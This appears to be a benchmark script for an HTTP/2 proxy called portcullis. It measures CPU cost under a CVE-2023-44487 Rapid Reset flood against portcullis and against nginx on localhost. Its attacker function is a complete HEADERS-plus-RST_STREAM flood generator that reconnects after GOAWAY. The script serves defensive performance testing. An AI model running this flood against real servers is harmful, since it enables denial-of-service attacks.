// Rapid reset (CVE-2023-44487) cost (`npm run bench:rapid-reset`): the same fixed flood
// of HEADERS + RST_STREAM pairs, spread over BENCH_RR_CONNECTIONS connections (default
// 50), against portcullis and against nginx with HTTP/2 on, both in front of the same
// nginx upstream with the same certificates. Each flooding connection writes its pairs
// in batches and reconnects when the server sends GOAWAY or closes, until its share is
// written, as a real attacker would (BENCH_RR_PACED=1: one batch at a time, each after the
// server has answered a PING sent with the one before). Reported per proxy: CPU seconds of its process tree
// (from /proc) for the whole flood, the streams it processed (from the GOAWAY frames'
// last-stream-id, where one arrived), the upstream's CPU, connections used, and how a
// normal client fared meanwhile (a fresh HTTPS request every 100 ms). The headline is the
// CPU ratio: the same pairs were written to both.
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import { join, resolve, dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import tls from 'node:tls';
import { readFileSync } from 'node:fs';
import { makePki, type BenchPki } from './pki.js';
import { proxyConf, startNginx, upstreamConf } from './nginx.js';
import { portcullisConfig, startPortcullis } from './portcullis.js';
import { freePorts, killAllStarted, sleep, stopProcess, treeCpuSeconds, type Proc } from './proc.js';
import { get, waitReady } from './probe.js';
import { ensureTools } from './tools.js';

const CONNECTIONS = Number(process.env.BENCH_RR_CONNECTIONS ?? 50);
/** pairs each connection writes in total (over as many reconnects as it takes) */
const PAIRS_PER_CONNECTION = Number(process.env.BENCH_RR_PAIRS ?? 2_000);
const BATCH = Number(process.env.BENCH_RR_BATCH ?? 100);
/** BENCH_RR_PACED=1: each batch waits for the answer to a PING sent after the one before, so the server never reads two batches at once */
const PACED = process.env.BENCH_RR_PACED === '1';
const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 1);

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');

function frame(type: number, flags: number, id: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const b = Buffer.alloc(9 + payload.length);
  b.writeUIntBE(payload.length, 0, 3);
  b[3] = type;
  b[4] = flags;
  b.writeUInt32BE(id, 5);
  payload.copy(b, 9);
  return b;
}

/** GET / for localhost in HPACK without dynamic-table state (every block stands alone). */
const BLOCK = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 9]), Buffer.from('localhost')]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

interface FloodStats {
  written: number;
  /** streams the server says it processed (GOAWAY last-stream-id), or all of them when it never cut off */
  processed: number;
  connections: number;
  goaways: Record<string, number>;
  /** connections the server closed without a GOAWAY reaching us (processed count unknown) */
  cutWithoutGoaway: number;
}

/**
 * One attacker connection after another until `pairs` are written: HEADERS (END_STREAM)
 * + RST_STREAM CANCEL, BATCH pairs per write, the next batch when the socket drains.
 */
async function attacker(port: number, pki: BenchPki, pairs: number, st: FloodStats): Promise<void> {
  const creds = { ca: readFileSync(pki.ca), cert: readFileSync(pki.clientChain), key: readFileSync(pki.clientKey) };
  let left = pairs;
  while (left > 0) {
    st.connections++;
    const sock = tls.connect({ host: '127.0.0.1', port, servername: 'localhost', ALPNProtocols: ['h2'], ...creds });
    sock.on('error', () => undefined);
    let goaway = false;
    let pings = 0;
    let pingWaiter: (() => void) | undefined;
    let buf = Buffer.alloc(0);
    sock.on('data', (d: Buffer) => {
      buf = Buffer.concat([buf, d]);
      while (buf.length >= 9) {
        const len = buf.readUIntBE(0, 3);
        if (buf.length < 9 + len) break;
        const type = buf[3];
        const flags = buf[4]!;
        const p = buf.subarray(9, 9 + len);
        buf = buf.subarray(9 + len);
        if (type === 4 && !(flags & 1) && !sock.destroyed) sock.write(frame(4, 1, 0));
        if (type === 6 && flags & 1) {
          pings++;
          pingWaiter?.();
        }
        if (type === 7 && !goaway) {
          goaway = true;
          st.processed += Math.ceil((p.readUInt32BE(0) & 0x7fffffff) / 2);
          const code = String(p.readUInt32BE(4));
          st.goaways[code] = (st.goaways[code] ?? 0) + 1;
        }
      }
    });
    const closed = new Promise<void>((r) =>
      sock.once('close', () => {
        pingWaiter?.();
        r();
      }),
    );
    const ok = await new Promise<boolean>((r) => {
      sock.once('secureConnect', () => r(true));
      sock.once('close', () => r(false));
    });
    if (!ok) {
      await sleep(10);
      continue;
    }
    sock.write(Buffer.concat([PREFACE, frame(4, 0, 0)]));
    let id = 1;
    while (left > 0 && !goaway && !sock.destroyed && id < 2 ** 31 - 2 * BATCH) {
      const n = Math.min(BATCH, left);
      const parts: Buffer[] = [];
      for (let i = 0; i < n; i++, id += 2) parts.push(frame(1, 5, id, BLOCK), frame(3, 0, id, CANCEL));
      if (PACED) parts.push(frame(6, 0, 0, Buffer.alloc(8)));
      left -= n;
      st.written += n;
      const acked = pings;
      if (!sock.write(Buffer.concat(parts))) await new Promise<void>((r) => { sock.once('drain', r); sock.once('close', r); });
      if (PACED) {
        while (pings === acked && !goaway && !sock.destroyed) {
          await new Promise<void>((r) => {
            pingWaiter = r;
            setTimeout(r, 1_000);
          });
        }
        pingWaiter = undefined;
      } else await new Promise((r) => setImmediate(r));
    }
    // all written: the server may still be working through them; wait for its verdict (a
    // GOAWAY saying how far it got) or, from a server that never cuts a connection off,
    // for the answers to a PING sent after the last pair
    let pong = false;
    if (!goaway && !sock.destroyed) {
      sock.write(frame(6, 0, 0, Buffer.alloc(8)));
      const pongP = new Promise<void>((r) => {
        const check = (d: Buffer) => {
          if (d.includes(Buffer.from([0, 0, 8, 6, 1]))) {
            pong = true;
            r();
          }
        };
        sock.on('data', check);
        sock.once('close', () => r());
      });
      await Promise.race([pongP, sleep(30_000)]);
    }
    if (!goaway && pong) st.processed += (id - 1) / 2;
    else if (!goaway) st.cutWithoutGoaway++;
    sock.end();
    sock.destroy();
    await closed;
  }
}

interface Row {
  proxy: string;
  round: number;
  proxy_cpu_s: number;
  upstream_cpu_s: number;
  wall_s: number;
  pairs_written: number;
  streams_processed: number;
  proxy_cpu_us_per_pair: number;
  connections: number;
  goaway_codes: string;
  cut_without_goaway: number;
  probes_ok: number;
  probes_failed: number;
  probe_max_ms: number;
}

async function measure(name: string, proc: Proc, port: number, upstream: Proc, pki: BenchPki, round: number): Promise<Row> {
  const st: FloodStats = { written: 0, processed: 0, connections: 0, goaways: {}, cutWithoutGoaway: 0 };
  const cpu0 = treeCpuSeconds(proc.pid);
  const up0 = treeCpuSeconds(upstream.pid);
  const t0 = performance.now();
  let flooding = true;
  const probes = { ok: 0, failed: 0, maxMs: 0 };
  const prober = (async () => {
    while (flooding) {
      const p0 = performance.now();
      try {
        const r = await get(port, '/probe', pki);
        if (r.status === 200) probes.ok++;
        else probes.failed++;
      } catch {
        probes.failed++;
      }
      probes.maxMs = Math.max(probes.maxMs, performance.now() - p0);
      await sleep(100);
    }
  })();
  await Promise.all(Array.from({ length: CONNECTIONS }, () => attacker(port, pki, PAIRS_PER_CONNECTION, st)));
  const wall = (performance.now() - t0) / 1000;
  // the proxy may still be working through what it read: let it settle before the reading
  await sleep(500);
  flooding = false;
  await prober;
  const cpu = treeCpuSeconds(proc.pid) - cpu0;
  const upCpu = treeCpuSeconds(upstream.pid) - up0;
  if (proc.exitCode !== undefined) throw new Error(`${name} exited during the flood; see ${proc.logPath}`);
  return {
    proxy: name,
    round,
    proxy_cpu_s: +cpu.toFixed(2),
    upstream_cpu_s: +upCpu.toFixed(2),
    wall_s: +wall.toFixed(2),
    pairs_written: st.written,
    streams_processed: st.processed,
    proxy_cpu_us_per_pair: +((cpu * 1e6) / Math.max(1, st.written)).toFixed(1),
    connections: st.connections,
    goaway_codes: Object.entries(st.goaways).map(([k, v]) => `${k}:${v}`).join(' '),
    cut_without_goaway: st.cutWithoutGoaway,
    probes_ok: probes.ok,
    probes_failed: probes.failed,
    probe_max_ms: Math.round(probes.maxMs),
  };
}

/** nginx's proxy configuration with HTTP/2 on and nginx's own defaults for it. */
function nginxH2Conf(dir: string, port: number, upPort: number, pki: BenchPki, fdLimit: number): string {
  const conf = proxyConf(dir, port, upPort, pki, 1, fdLimit);
  const listen = `listen 127.0.0.1:${port} ssl;`;
  if (!conf.includes(listen)) throw new Error('bench/nginx.ts proxyConf changed: update the HTTP/2 listen line here');
  // nginx 1.22 spells it on the listen line (`http2 on` is 1.25.1+); keepalive_requests back
  // at nginx's default of 1000, which is also how many streams an h2 connection may open
  // (the shared bench config raises it for the keep-alive test)
  return conf.replace(listen, `listen 127.0.0.1:${port} ssl http2;\n    keepalive_requests 1000;\n    http2_max_concurrent_streams 128;`);
}

async function main(): Promise<void> {
  const here = dirname(fileURLToPath(import.meta.url));
  const repoRoot = resolve(here, '..', '..');
  const tools = ensureTools();
  const dir = mkdtempSync(join(os.tmpdir(), 'portcullis-bench-rr-'));
  chmodSync(dir, 0o755);
  const rows: Row[] = [];
  try {
    const pki = await makePki(dir);
    mkdirSync(join(dir, 'www'));
    const big = join(dir, 'www', 'big.bin');
    writeFileSync(big, 'x');
    const [upPort, pcPort, ngPort, adminPort] = (await freePorts(4)) as [number, number, number, number];
    const fd = 65536;
    writeFileSync(join(dir, 'upstream.conf'), upstreamConf(dir, upPort, big, fd));
    const upstream = startNginx(tools.nginx, 'upstream', dir, join(dir, 'upstream.conf'));
    await waitReady(upstream, upPort);
    writeFileSync(join(dir, 'nginx-proxy.conf'), nginxH2Conf(dir, ngPort, upPort, pki, fd));
    const systems: { name: string; port: number; start: () => Proc }[] = [
      { name: 'portcullis', port: pcPort, start: () => startPortcullis(repoRoot, dir, portcullisConfig(pcPort, adminPort, upPort, pki, 1)) },
      { name: 'nginx', port: ngPort, start: () => startNginx(tools.nginx, 'nginx-proxy', dir, join(dir, 'nginx-proxy.conf')) },
    ];
    console.log(`bench:rapid-reset: ${CONNECTIONS} connections x ${PAIRS_PER_CONNECTION} HEADERS+RST_STREAM pairs each, ${BATCH} per write${PACED ? ', paced by PINGs' : ''}, ${ROUNDS} round(s), one worker per proxy`);
    for (let round = 1; round <= ROUNDS; round++) {
      for (const sys of systems) {
        // a fresh process per run: no warm caches or half-closed sockets from the other run
        const proc = sys.start();
        await waitReady(proc, sys.port, pki);
        const row = await measure(sys.name, proc, sys.port, upstream, pki, round);
        rows.push(row);
        console.log(JSON.stringify(row));
        await stopProcess(proc);
      }
    }
    await stopProcess(upstream);
  } finally {
    killAllStarted();
    rmSync(dir, { recursive: true, force: true });
  }
  const med = (proxy: string, k: keyof Row) => {
    const xs = rows.filter((r) => r.proxy === proxy).map((r) => r[k] as number).sort((a, b) => a - b);
    return xs[Math.floor(xs.length / 2)]!;
  };
  console.table(
    (['proxy_cpu_s', 'upstream_cpu_s', 'wall_s', 'proxy_cpu_us_per_pair', 'connections', 'probes_failed', 'probe_max_ms'] as const).map((k) => ({
      metric: k,
      portcullis: med('portcullis', k),
      nginx: med('nginx', k),
    })),
  );
  const ratio = med('portcullis', 'proxy_cpu_s') / Math.max(0.01, med('nginx', 'proxy_cpu_s'));
  console.log(`portcullis used ${ratio.toFixed(2)}x nginx's CPU for the same flood (target: at most 2x)`);
  mkdirSync(join(repoRoot, 'bench/results'), { recursive: true });
  writeFileSync(join(repoRoot, `bench/results/rapid-reset${PACED ? '-paced' : ''}.json`), JSON.stringify({ connections: CONNECTIONS, pairs_per_connection: PAIRS_PER_CONNECTION, batch: BATCH, paced: PACED, rows, cpu_ratio: +ratio.toFixed(2) }, null, 2));
}

main().catch((err) => {
  killAllStarted();
  console.error(err);
  process.exit(1);
});
